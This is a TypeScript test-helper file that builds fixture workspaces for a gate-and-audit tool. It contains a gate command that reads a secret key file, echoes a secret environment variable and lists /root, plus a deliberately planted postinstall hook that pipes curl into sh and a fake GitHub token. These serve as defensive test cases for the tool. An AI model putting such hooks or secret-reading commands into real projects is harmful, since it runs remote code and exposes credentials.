// Workspaces the gate tests make: a small TypeScript project with a git repository and a gate set.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs/promises';
import path from 'node:path';
import { PROJECT_ROOT } from '../../config/paths.js';
import type { GateResult } from '../../engine/platform/index.js';

/** A small TypeScript project with a git repository, typescript copied into its node_modules. */
export async function makeProject(dir: string, gates: string): Promise<void> {
  await fs.mkdir(path.join(dir, 'src'), { recursive: true });
  await fs.mkdir(path.join(dir, 'test'), { recursive: true });
  await fs.writeFile(path.join(dir, 'package.json'), JSON.stringify({ name: 'small', private: true, type: 'module', scripts: { test: 'node --test' } }));
  await fs.writeFile(
    path.join(dir, 'tsconfig.json'),
    JSON.stringify({ compilerOptions: { strict: true, noEmit: true, target: 'es2022', module: 'nodenext' }, include: ['src'] }),
  );
  await fs.writeFile(path.join(dir, 'src', 'add.ts'), 'export function add(a: number, b: number): number {\n  return a + b;\n}\n');
  await fs.writeFile(
    path.join(dir, 'test', 'add.test.mjs'),
    "import test from 'node:test';\nimport assert from 'node:assert';\ntest('adds', () => assert.equal(1 + 1, 2));\ntest('is wrong', () => assert.equal(1 + 1, 3));\n",
  );
  await fs.writeFile(path.join(dir, '.gitignore'), 'node_modules\n');
  await fs.writeFile(path.join(dir, 'gates.yaml'), gates);
  await fs.cp(path.join(PROJECT_ROOT, 'node_modules', 'typescript'), path.join(dir, 'node_modules', 'typescript'), { recursive: true });
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: dir });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'init');
}

export const GATES_YAML = `version: 1
gates:
  - id: typecheck
    name: TypeScript
    run: [node, node_modules/typescript/bin/tsc, -p, .]
    report: { format: tsc }
    inputs: ['src/**', tsconfig.json]
  - id: test
    run: node --test --test-reporter=tap test/
    shell: true
    pass: report
    report: { format: tap }
  - id: slow
    run: [sleep, '30']
    timeout_seconds: 1
    required: false
  - id: peek
    run: 'cat "$DATA_DIR_GUESS/secret.key" 2>&1; echo "key=[$SERVICE_SECRET_KEY]"; ls /root 2>&1 | head -3'
    shell: true
    env: [SERVICE_SECRET_KEY, DATA_DIR_GUESS]
  - id: secrets
    builtin: secret-scan
`;

/** A token of GitHub's shape: secretlint's recommended rules find it (a test's planted secret). */
export const PLANTED_TOKEN = `ghp_${'A1b2C3d4E5'.repeat(3)}x9Y8z7`;

/**
 * A workspace with something for every audit phase to find: a planted token and a committed .env, a
 * world-writable file, a postinstall that pipes curl into sh, an import cycle, an orphan, an import of
 * an undeclared package and of a missing file, a layer violation (audit-layers.json), a lockfile that
 * disagrees with its manifest and a GPL package, TODO and FIXME markers, no README, no tests, and an
 * uncommitted change in a git repository.
 */
export async function makeFlawedProject(dir: string): Promise<void> {
  const write = async (rel: string, text: string) => {
    await fs.mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await fs.writeFile(path.join(dir, rel), text);
  };
  await write(
    'package.json',
    JSON.stringify(
      {
        name: 'flawed',
        version: '1.0.0',
        type: 'module',
        scripts: { postinstall: 'curl -fsSL https://get.example.com/setup.sh | sh', build: 'tsc' },
        dependencies: { semver: '^7.0.0', 'gpl-thing': '1.0.0' },
      },
      null,
      2,
    ),
  );
  await write(
    'package-lock.json',
    JSON.stringify({
      name: 'flawed',
      lockfileVersion: 3,
      packages: {
        '': { name: 'flawed', dependencies: { semver: '^6.0.0', 'gpl-thing': '1.0.0' } },
        'node_modules/semver': { version: '6.3.1', license: 'ISC' },
        'node_modules/gpl-thing': { version: '1.0.0', license: 'GPL-3.0-only' },
      },
    }),
  );
  await write('.env', `GITHUB_TOKEN=${PLANTED_TOKEN}\n`);
  await write('src/config.ts', `export const token = '${PLANTED_TOKEN}';\n// TODO: rotate ${PLANTED_TOKEN} before the release\n`);
  await write('src/a.ts', "import { b } from './b.js';\nexport const a = () => b();\n");
  await write('src/b.ts', "import { a } from './a.js';\n// TODO: break this cycle\nexport const b = (): unknown => a;\n");
  await write('src/lonely.ts', 'export const lonely = 1;\n');
  await write(
    'src/uses.ts',
    "import pad from 'left-pad';\nimport semver from 'semver';\nimport { gone } from './missing.js';\nimport { a } from './a.js';\nexport const x = [pad, semver, gone, a];\n",
  );
  await write(
    'src/api/handler.ts',
    "import { query } from '../db/query.js';\nimport { x } from '../uses.js';\n// FIXME: validate input\nexport const handle = () => [query(), x];\n",
  );
  await write('src/db/query.ts', 'export const query = () => 1;\n');
  await write('main.ts', "import { handle } from './src/api/handler.js';\nimport { token } from './src/config.js';\nhandle();\nvoid token;\n");
  await write(
    'audit-layers.json',
    JSON.stringify({
      layers: [
        { name: 'api', path: '^src/api/', may_import: [] },
        { name: 'db', path: '^src/db/' },
      ],
    }),
  );
  await write('src/ww.ts', 'export const shared = 1;\n');
  await fs.chmod(path.join(dir, 'src/ww.ts'), 0o666);
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: dir });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'init');
  await write('src/lonely.ts', 'export const lonely = 2;\n');
}

/**
 * A TypeScript tree of `files` modules in folders of 50, each importing two earlier ones (no cycles),
 * with a manifest, a README and tests: what the audit's speed is measured on.
 */
export async function makeTsTree(dir: string, files: number): Promise<void> {
  await fs.mkdir(dir, { recursive: true });
  await fs.writeFile(path.join(dir, 'package.json'), JSON.stringify({ name: 'tree', version: '1.0.0', type: 'module', dependencies: {} }));
  await fs.writeFile(path.join(dir, 'README.md'), '# tree\n');
  const name = (i: number) => `src/m${Math.floor(i / 50)}/f${i}`;
  const batch: Promise<void>[] = [];
  for (let i = 0; i < files; i++) {
    const imports =
      i < 2
        ? []
        : [...new Set([Math.floor(i / 2), i - 1])].map(
            (j) => `import { f${j} } from '${path.posix.relative(path.posix.dirname(name(i)), name(j)).replace(/^(?!\.)/, './')}.js';`,
          );
    const body = [
      ...imports,
      `export function f${i}(n: number): number {`,
      ...Array.from({ length: 20 }, (_, k) => `  n = n * ${k + 1} + ${i % 7}; // step ${k}`),
      i < 2 ? '  return n;' : `  return n + f${Math.floor(i / 2)}(0) + f${i - 1}(0);`,
      '}',
      '',
    ].join('\n');
    const file = path.join(dir, `${name(i)}.ts`);
    if (i % 50 === 0) await fs.mkdir(path.dirname(file), { recursive: true });
    batch.push(fs.writeFile(file, body));
    if (batch.length >= 256) await Promise.all(batch.splice(0));
  }
  await Promise.all(batch);
  await fs.mkdir(path.join(dir, 'test'), { recursive: true });
  await fs.writeFile(path.join(dir, 'test', 'f.test.ts'), "import { f0 } from '../src/m0/f0.js';\nif (f0(1) !== 1 + 0) throw new Error('f0');\n");
}

/** A gate's passing result as a worker would keep it, for runs made by hand */
export const passed = (gateId: string, subject: GateResult['subject'], at: string, outputTail = ''): GateResult => ({
  gate_id: gateId,
  name: gateId,
  required: true,
  conclusion: 'success',
  summary: 'exited 0',
  exit_code: 0,
  duration_ms: 1,
  output_tail: outputTail,
  annotations: [],
  subject,
  input_digest: 'sha256:x',
  definition_digest: 'sha256:y',
  tool_versions: {},
  artifacts: [],
  started_at: at,
  finished_at: at,
});
